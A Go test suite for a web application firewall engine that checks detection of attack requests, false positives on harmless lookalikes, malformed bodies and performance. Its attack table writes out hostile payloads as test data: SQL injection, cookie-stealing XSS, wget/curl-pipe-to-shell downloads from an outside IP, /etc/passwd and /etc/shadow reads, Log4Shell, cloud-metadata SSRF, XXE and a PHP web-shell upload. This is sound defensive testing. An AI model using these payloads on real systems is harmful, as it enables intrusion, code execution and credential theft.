//go:build waf

package waf

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"
)

func open(t testing.TB, s Settings) *Engine {
	t.Helper()
	if s.Paranoia == 0 {
		s.Paranoia = 1
	}
	if s.Threshold == 0 {
		s.Threshold = 5
	}
	if s.MaxBody == 0 {
		s.MaxBody = 128 << 10
	}
	e, err := New(s)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.Close)
	return e
}

// request is what an API client sends.
type request struct {
	method, target, contentType, body string
	fields                            []string
}

func (e *Engine) judge(r *request) Verdict {
	i := e.Begin(Head{Method: r.method, Target: r.target, Proto: "HTTP/1.1", Client: "192.0.2.1", Server: "192.0.2.2"})
	i.Field("Host", "api.example.com")
	i.Field("User-Agent", "acme-orders/2.1 (Linux; x86_64)")
	i.Field("Accept", "application/json")
	i.Field("Authorization", "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiJhY21lIiwiZXhwIjoyMDAwMDAwMDAwfQ.c2lnbmF0dXJlLW9mLTI1Ni1ieXRlcw")
	if r.contentType != "" {
		i.Field("Content-Type", r.contentType)
	}
	if r.body != "" {
		i.Field("Content-Length", strconv.Itoa(len(r.body)))
	}
	for _, f := range r.fields {
		name, value, _ := strings.Cut(f, ": ")
		i.Field(name, value)
	}
	if !i.Head() {
		i.Content([]byte(r.body))
	}
	return i.End()
}

func get(target string, fields ...string) request {
	return request{method: "GET", target: target, fields: fields}
}

func ask(q string) request { return get("/search?q=" + url.QueryEscape(q)) }

func post(contentType, body string) request {
	return request{method: "POST", target: "/orders", contentType: contentType, body: body}
}

func say(text string) request {
	note, err := json.Marshal(map[string]string{"note": text})
	if err != nil {
		panic(err)
	}
	return post("application/json", string(note))
}

const form = "application/x-www-form-urlencoded"

// attacks are ways in that everybody knows, each as it would come.
var attacks = map[string]request{
	"sqli or":                 ask("1' OR '1'='1"),
	"sqli union":              ask("-1 UNION SELECT username, password FROM users--"),
	"sqli sleep":              ask("1; SELECT pg_sleep(10)--"),
	"sqli comment":            ask("admin'/**/or/**/1=1#"),
	"sqli stacked":            say("x'; DROP TABLE orders; --"),
	"sqli in json":            post("application/json", `{"filter": {"id": "1 or 1=1 union select 1,2,3"}}`),
	"sqli in form":            post(form, "user=admin%27+--+&pass=x"),
	"sqli in cookie":          get("/", "Cookie: id=1'+UNION+SELECT+password+FROM+users--+"),
	"sqli in path":            get("/orders/1%27%20or%20%271%27=%271"),
	"sqli mssql":              ask("1; EXEC xp_cmdshell('dir')"),
	"xss script":              ask("<script>alert(1)</script>"),
	"xss img":                 ask(`<img src=x onerror=alert(1)>`),
	"xss svg":                 say(`<svg/onload=alert(document.cookie)>`),
	"xss javascript":          ask("javascript:alert(document.domain)"),
	"xss in referer":          get("/", "Referer: https://a/<script>alert(1)</script>"),
	"rce semicolon":           ask("; cat /etc/passwd"),
	"rce pipe":                ask("x | wget http://203.0.113.1/a.sh -O- | sh"),
	"rce subshell":            say("$(curl http://203.0.113.1/x | bash)"),
	"rce backtick":            ask("`id`; whoami"),
	"rce shellshock":          get("/", "X-Any: () { :;}; /bin/bash -c 'id'"),
	"rce powershell":          ask("powershell -enc ZQBjAGgAbwA="),
	"lfi dots":                ask("../../../../etc/passwd"),
	"lfi encoded":             get("/download?file=..%2f..%2f..%2f..%2fetc%2fshadow"),
	"lfi proc":                ask("/proc/self/environ"),
	"lfi git":                 get("/.git/config"),
	"lfi env":                 get("/.env"),
	"rfi":                     ask("http://203.0.113.7/shell.txt?"),
	"log4shell":               get("/", "User-Agent: ${jndi:ldap://203.0.113.7/a}"),
	"log4shell hidden":        say("${${lower:j}ndi:${lower:l}dap://203.0.113.7/a}"),
	"spring4shell":            post(form, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
	"struts ognl":             get("/", "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}"),
	"java serialized":         ask("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3I="),
	"php wrapper":             ask("php://filter/convert.base64-encode/resource=index.php"),
	"php code":                ask("<?php system($_GET['c']); ?>"),
	"node":                    say("require('child_process').execSync('id')"),
	"prototype pollution":     post("application/json", `{"__proto__": {"isAdmin": true}}`),
	"ssti":                    ask("{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
	"ssrf metadata":           ask("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
	"nosql":                   get("/login?user[$ne]=x&pass[$gt]="),
	"crlf":                    get("/redirect?to=x%0d%0aSet-Cookie:%20admin=1"),
	"scanner":                 get("/", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"),
	"xxe":                     post("application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`),
	"upload php":              post("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\nContent-Type: image/png\r\n\r\nGIF89a<?php system('id');?>\r\n--b--\r\n"),
	"json that is none":       post("application/json", `{"a": "1' or '1'='1", `),
	"unknown content type":    post("application/x-amf", "x"),
	"compressed out of sight": {method: "POST", target: "/", contentType: "application/json", body: "x", fields: []string{"Content-Encoding: gzip"}},
}

// harmless are requests of good clients that look like attacks to the hasty.
var harmless = map[string]request{
	"name":             say("O'Brien"),
	"name in query":    ask("O'Brien & Sons"),
	"irish names":      post(form, "first=Se%C3%A1n&last=O%27Connor-D%27Arcy"),
	"select a plan":    say("Please select a plan from the list and update your order; drop me a line when it is set."),
	"union":            ask("western union select all branches"),
	"order by":         get("/orders?sort=-created&order=desc&limit=50&offset=100"),
	"filter":           get("/orders?filter=" + url.QueryEscape("status eq 'open' and total gt 100")),
	"c++":              say("#include <vector>\nint main() { std::vector<int> v{1,2,3}; for (auto& x : v) x <<= 1; return v.size() > 2 ? 0 : 1; }"),
	"go":               say("func main() {\n\tif err := run(ctx, os.Args[1:]); err != nil {\n\t\tlog.Fatal(err)\n\t}\n}"),
	"html less than":   say("if a < b && c > d then it is fine"),
	"markdown":         say("# Title\n\n* one\n* two `code`\n\n[link](https://example.com/a?b=c&d=e) **bold** _it_\n\n> quote\n\n---\n"),
	"graphql":          post("application/json", `{"query":"query Orders($first: Int!) { orders(first: $first, where: {status: {_eq: \"open\"}}) { edges { node { id total } } pageInfo { endCursor } } }","variables":{"first":10}}`),
	"graphql mutation": post("application/graphql", "mutation { updateOrder(id: 7, input: {note: \"please, deliver; thanks\"}) { order { id } } }"),
	"base64":           post("application/json", `{"image": "`+base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00\x01binary\xff\xfe picture data", 40)))+`"}`),
	"uuid":             get("/orders/2f1d7f2e-8f2a-4b52-9d0e-0c1f0a6f3b11/items/9b2d5a1c-33b1-4c3e-8f61-8e4f1b0c7d22"),
	"jwt in body":      post(form, "grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Ajwt-bearer&assertion=eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJhIn0.c2ln"),
	"redirect uri":     get("/authorize?response_type=code&client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&scope=openid%20profile&state=af0ifjsldkj&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"),
	"timestamp":        get("/events?since=2026-11-22T10:00:00Z&until=2026-11-22T11:00:00%2B01:00"),
	"unicode":          say("Grüße aus Zürich, 東京から こんにちは 🎉 — “quoted” ‘text’"),
	"money":            say("Total: $1,299.00 (incl. 20% VAT); 50% off > 3 items"),
	"path like":        post("application/json", `{"file": "reports/2026/q3/summary.pdf", "folder": "/home/ann/Documents"}`),
	"regexp":           say(`^[A-Z]{2}\d{2}[ ]\d{4}$`),
	"sql talk":         say("How do I write a query that groups by month? I tried group by but it does not work."),
	"shell talk":       say("Run the installer, then restart the service and look into the log file."),
	"csv":              post("text/plain", "id,name,total\n1,\"O'Brien, Pat\",10.50\n2,\"Smith & Co\",20.00\n"),
	"nested json":      post("application/json", `{"orders":[{"id":1,"lines":[{"sku":"A-1","qty":2,"tags":["new","<10kg"]}]},{"id":2,"lines":[]}],"meta":{"page":1,"of":9,"next":null,"ok":true,"ratio":0.25}}`),
	"put":              {method: "PUT", target: "/orders/7", contentType: "application/json", body: `{"status":"shipped"}`},
	"merge patch":      {method: "PATCH", target: "/orders/7", contentType: "application/merge-patch+json", body: `{"note":null}`},
	"delete":           {method: "DELETE", target: "/orders/7"},
	"xml":              post("application/xml", `<?xml version="1.0" encoding="UTF-8"?><order id="7"><note>Tom &amp; Jerry's</note></order>`),
	"soap":             post("text/xml; charset=utf-8", `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><Id>7</Id></GetOrder></soap:Body></soap:Envelope>`),
	"upload":           post("multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"invoice 7.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 data\r\n--xyz--\r\n"),
	"cookie":           get("/", "Cookie: session=Fe26.2**0cdd6; _ga=GA1.2.1234567890.1700000000; theme=dark"),
	"browser":          get("/", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "Accept-Language: de-CH,de;q=0.9,en;q=0.8", "Sec-Fetch-Mode: cors"),
	"email":            say("Write to o'neil+orders@example.com or call +41 (0)44 123 45 67."),
	"address":          post("application/json", `{"street":"1 Rue de l'Hôpital","city":"L'Aquila","zip":"67100","country":"IT"}`),
	"emoji search":     ask("🍕 near me"),
	"minus minus":      say("see above -- and below /* really */"),
	"template":         say("Dear {{name}}, your order ${order} is on its way."),
	"url in body":      post("application/json", `{"webhook":"https://hooks.example.com/in?token=abc&x=1#frag"}`),
	"javascript":       say("const total = items.map(i => i.price * i.qty).reduce((a, b) => a + b, 0);"),
	"sql statement":    say("SELECT id, total FROM orders WHERE status = 'open' ORDER BY created DESC"),
	"shell command":    say("curl -s https://example.com/install.sh | sh"),
	"grpc status":      get("/health?service=orders.v1.Orders"),
	"odata":            get("/odata/Orders?$filter=Total%20gt%20100&$select=Id,Total&$orderby=Created%20desc&$top=10"),
	"json:api":         {method: "GET", target: "/articles?include=author&fields[articles]=title,body&page[number]=2&page[size]=10", fields: []string{"Accept: application/vnd.api+json"}},
	"elastic":          post("application/json", `{"query":{"bool":{"must":[{"match":{"title":"gateway"}}],"filter":[{"range":{"date":{"gte":"now-1d/d"}}}]}}}`),
}

// falsely are the harmless requests that paranoia level 1 takes for attacks, with the rules: the page tells of them.
var falsely = map[string]string{
	"union":         "942100 942190",
	"select a plan": "942350",
	"graphql":       "932235 942290",
	"odata":         "942290",
	"c++":           "932280",
	"template":      "932130 933135",
	"csv":           "921150",
}

// missed are the attacks that level 1 lets by, and what is known of that.
var missed = map[string]string{
	"sqli in form":    "found from level 2 on",
	"sqli in path":    "found from level 2 on",
	"java serialized": "found at level 4, if at all",
	"xxe":             "the rule set has no rule for document types",
}

func met(v *Verdict) string {
	var ids []string
	for _, r := range v.Rules {
		ids = append(ids, strconv.Itoa(r.ID))
	}
	return strings.Join(ids, " ")
}

func TestAttacks(t *testing.T) {
	e := open(t, Settings{})
	found := 0
	for name, r := range attacks {
		v := e.judge(&r)
		_, let := missed[name]
		if v.Attack == let {
			t.Errorf("%s: attack %t, score %d, rules %s", name, v.Attack, v.Score, met(&v))
		}
		if v.Attack {
			found++
			if len(v.Rules) == 0 || v.Score < 5 {
				t.Errorf("%s: score %d, rules %s", name, v.Score, met(&v))
			}
		}
		for _, r := range v.Rules {
			if r.Message == "" || strings.Contains(r.Message, "%{") || r.Category == "" {
				t.Errorf("%+v", r)
			}
		}
	}
	t.Logf("%d of %d attacks found", found, len(attacks))
}

func TestHarmless(t *testing.T) {
	e := open(t, Settings{})
	good := 0
	for name, r := range harmless {
		v := e.judge(&r)
		if v.Attack {
			if got := met(&v); falsely[name] != got {
				t.Errorf("%s: score %d, rules %s, want %q", name, v.Score, got, falsely[name])
			}
			continue
		}
		good++
		if falsely[name] != "" {
			t.Errorf("%s is let by now", name)
		}
	}
	t.Logf("%d of %d harmless requests are let by", good, len(harmless))
	for _, paranoia := range []int{2, 3, 4} {
		e, good := open(t, Settings{Paranoia: paranoia}), 0
		for _, r := range harmless {
			if v := e.judge(&r); !v.Attack {
				good++
			}
		}
		t.Logf("%d of %d at paranoia level %d", good, len(harmless), paranoia)
	}
}

// What cannot be read to its end, by an engine that is stricter than some endpoints, is an attack.
func TestUnreadable(t *testing.T) {
	e := open(t, Settings{})
	deep := func(n int) string { return strings.Repeat(`{"a":`, n) + "1" + strings.Repeat("}", n) }
	arguments := func(n int) string { return strings.Repeat("a=1&", n) + "a=1" }
	for name, c := range map[string]struct {
		request
		rules string
	}{
		"JSON cut off":        {post("application/json", `{"a": "b`), "200002"},
		"two JSON texts":      {post("application/json", `{"a": 1} {"b": 2}`), "200002"},
		"deep JSON":           {post("application/json", deep(129)), "200002"},
		"JSON":                {post("application/json", deep(100)), ""},
		"XML cut off":         {post("application/xml", `<a><b>x`), ""}, // read as far as it goes
		"XML cut off, attack": {post("application/xml", `<a><b>1' or '1'='1`), "942100"},
		"multipart cut off":   {post("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nx"), "200003"},
		"arguments":           {post(form, arguments(999)), ""},
		"too many arguments":  {post(form, arguments(1000)), "200005"},
		"too many in a query": {get("/?" + arguments(1000)), "200004 200005"},
		"empty content":       {request{method: "POST", target: "/", contentType: "application/json", fields: []string{"Content-Length: 0"}}, ""},
	} {
		if v := e.judge(&c.request); met(&v) != c.rules || v.Attack != (c.rules != "") {
			t.Errorf("%s: attack %t, rules %q, want %q", name, v.Attack, met(&v), c.rules)
		}
	}
}

// A head that is an attack is enough for an engine that stops early, and is no reason for another to stop.
func TestEarly(t *testing.T) {
	for _, early := range []bool{false, true} {
		e := open(t, Settings{Early: early})
		i := e.Begin(Head{Method: "GET", Target: "/", Proto: "HTTP/1.1"})
		i.Field("Host", "api.example.com")
		i.Field("User-Agent", "sqlmap/1.7")
		if i.Head() != early {
			t.Errorf("early %t: enough %t", early, !early)
		}
		if !early {
			i.Content(nil)
		}
		if v := i.End(); !v.Attack || met(&v) != "913100" {
			t.Errorf("early %t: attack %t, rules %s", early, v.Attack, met(&v))
		}
	}
}

// The rules that the page shows do what it says.
func TestPage(t *testing.T) {
	page, err := os.ReadFile("../../docs/policies/waf.md")
	if err != nil {
		t.Fatal(err)
	}
	_, text, _ := strings.Cut(string(page), "```\n# The field q")
	text, _, found := strings.Cut(text, "```")
	if !found {
		t.Fatal("the page shows no rules")
	}
	e := open(t, Settings{Rules: "# The field q" + text, RulesName: "waf.md"})
	for _, c := range []struct {
		request
		rules string
	}{
		{get("/search?q=1%27%20OR%20%271%27=%271"), ""},
		{get("/search?p=1%27%20OR%20%271%27=%271"), "942100"},
		{get("/orders?debug=1"), "1001"},
	} {
		if v := e.judge(&c.request); met(&v) != c.rules || v.Attack != (c.rules != "") {
			t.Errorf("%s: attack %t, rules %q, want %q", c.target, v.Attack, met(&v), c.rules)
		}
	}
	for _, media := range inspected {
		name := media[strings.Index(media, "/")+1:]
		if !strings.Contains(string(page), "`"+name+"`") && !strings.Contains(string(page), "`"+media+"`") && !strings.Contains(media, "form") {
			t.Errorf("the page does not name %s", media)
		}
	}
	for _, c := range Categories {
		if !strings.Contains(string(page), c) {
			t.Errorf("the page does not name the category %s", c)
		}
	}
}

// BenchmarkJudge states what judging costs.
func BenchmarkJudge(b *testing.B) {
	e := open(b, Settings{})
	object := func(size int) string {
		var text strings.Builder
		text.WriteString(`{"orders": [`)
		for i := 0; text.Len() < size-2; i++ {
			if i > 0 {
				text.WriteByte(',')
			}
			fmt.Fprintf(&text, `{"id": %d, "sku": "A-%05d", "note": "please deliver to the back door"}`, i, i*7)
		}
		text.WriteString("]}")
		return text.String()
	}
	for _, c := range []struct {
		name string
		request
	}{
		{"GET", get("/orders/7?expand=lines&limit=50")},
		{"JSON1KB", post("application/json", object(1<<10))},
		{"JSON8KB", post("application/json", object(8<<10))},
		{"JSON64KB", post("application/json", object(64<<10))},
		{"Text64KB", say(strings.Repeat("please deliver to the back door ", 2000))},
		{"Attack", ask("1' OR '1'='1")},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				e.judge(&c.request)
			}
		})
	}
}

// TestEngineMemory states what an engine takes of memory and time. The figures are those of an engine alone when it runs alone.
func TestEngineMemory(t *testing.T) {
	heap := func() float64 {
		var m runtime.MemStats
		for range 3 { // pools are given up the second time
			runtime.GC()
		}
		runtime.ReadMemStats(&m)
		return float64(m.HeapAlloc) / (1 << 20)
	}
	before, began := heap(), time.Now()
	one := open(t, Settings{Early: true})
	took, after := time.Since(began), heap()
	began = time.Now()
	two := open(t, Settings{Paranoia: 2})
	again := time.Since(began)
	t.Logf("the first engine takes %.1f MiB and %v, a further one %.1f MiB and %v", after-before, took.Round(time.Millisecond), heap()-after, again.Round(time.Millisecond))
	if after-before > 40 {
		t.Errorf("an engine takes %.1f MiB, and the page says 20", after-before)
	}
	runtime.KeepAlive(one)
	runtime.KeepAlive(two)
}
